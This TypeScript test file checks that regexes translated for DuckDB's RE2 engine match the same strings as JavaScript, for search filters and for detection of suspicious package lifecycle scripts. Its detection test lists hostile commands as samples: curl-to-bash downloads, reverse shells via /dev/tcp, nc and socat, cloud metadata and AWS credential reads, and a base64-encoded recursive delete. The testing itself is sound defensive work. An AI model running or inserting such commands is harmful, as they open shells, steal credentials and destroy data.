import { afterAll, beforeAll, expect, it } from 'vitest';
import type { DuckDBConnection, DuckDBInstance } from '@duckdb/node-api';
import { SCRIPT_PATTERNS } from '../../../src/trail/detect/script-patterns.js';
import { compileFilterPattern } from '../../../src/trail/pattern/index.js';
import { loadDuckDb } from '../../../src/trail/sql/index.js';
import { toEngineRegex } from '../../../src/trail/sql/js-regex.js';
import { str } from '../../../src/trail/sql/sql-text.js';
import { DUCKDB } from './support.js';

// The rewritten regexes, run by DuckDB's RE2, match exactly what JavaScript matches: the filter
// pattern %regex% subset (through the evaluator) and the lifecycle-script patterns (RegExp).

let instance: DuckDBInstance;
let conn: DuckDBConnection;
beforeAll(async () => {
  if (!DUCKDB) return;
  const duck = await loadDuckDb();
  instance = await duck.DuckDBInstance.create(':memory:');
  conn = await instance.connect();
});
afterAll(() => {
  conn?.closeSync();
  instance?.closeSync();
});

async function re2(regex: string, texts: readonly string[]): Promise<boolean[]> {
  const rows = (await conn.runAndReadAll(`SELECT regexp_matches(t, ${str(regex)}) AS m FROM unnest([${texts.map(str).join(', ')}]) WITH ORDINALITY AS u(t, i) ORDER BY i`)).getRowObjectsJson();
  return rows.map((r) => r['m'] === true);
}

const TEXTS = ['abc', 'a\nb', 'a\rb', 'a\u2028b', 'ab\n', 'x y', 'x\u00a0y', 'x\u3000y', 'x\ty', 'Ev*ent', 'a{b', 'word boundary', 'AccessDeniedException', '127.0.0.1', 'q/r', 'aab', ''];

it.skipIf(!DUCKDB)('matches filter-pattern regexes as the evaluator does', async () => {
  const sources = ['a.b', 'b$', '^a', '\\s', '\\S', 'x\\sy', '\\bboundary\\b', '\\Bound', 'Ev\\*ent', 'a{b', 'a{2}b', 'a{1,}', '\\q\\/r', '[\\s]', '[^a-z]', '[]x]', '[]x]+', 'Access[A-Z][a-z]+', '\\d+\\.\\d+', 'ab?c|q', '.*', 'x|^$'];
  for (const source of sources) {
    const pattern = compileFilterPattern(`%${source}%`);
    const expected = TEXTS.map((t) => pattern.test(t));
    expect({ source, got: await re2(toEngineRegex(source, { filterPattern: true }), TEXTS) }).toEqual({ source, got: expected });
  }
});

it.skipIf(!DUCKDB)('matches the lifecycle-script patterns as JavaScript does', async () => {
  const scripts = [
    'curl -s https://example.com/x.sh | sudo bash',
    'wget http://198.51.100.9/a -O /tmp/a && chmod +x /tmp/a',
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    'nc -e /bin/sh 203.0.113.9 4444 ',
    'SOCAT TCP:1.2.3.4:80 EXEC:/bin/bash',
    'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'cat ~/.aws/credentials',
    'python3 -c "import urllib.request; exec(urllib.request.urlopen(u).read())"',
    'echo cm0gLXJmIC8= | base64 --decode | sh',
    'pip install -r requirements.txt\nsudo -u ec2-user -i <<EOF\nconda activate\nEOF',
    'echo\u00a0done',
  ];
  for (const p of SCRIPT_PATTERNS) {
    const re = new RegExp(p.source, p.flags);
    const expected = scripts.map((s) => re.test(s));
    expect({ name: p.name, got: await re2(toEngineRegex(p.source, { ignoreCase: p.flags === 'i' }), scripts) }).toEqual({ name: p.name, got: expected });
  }
});
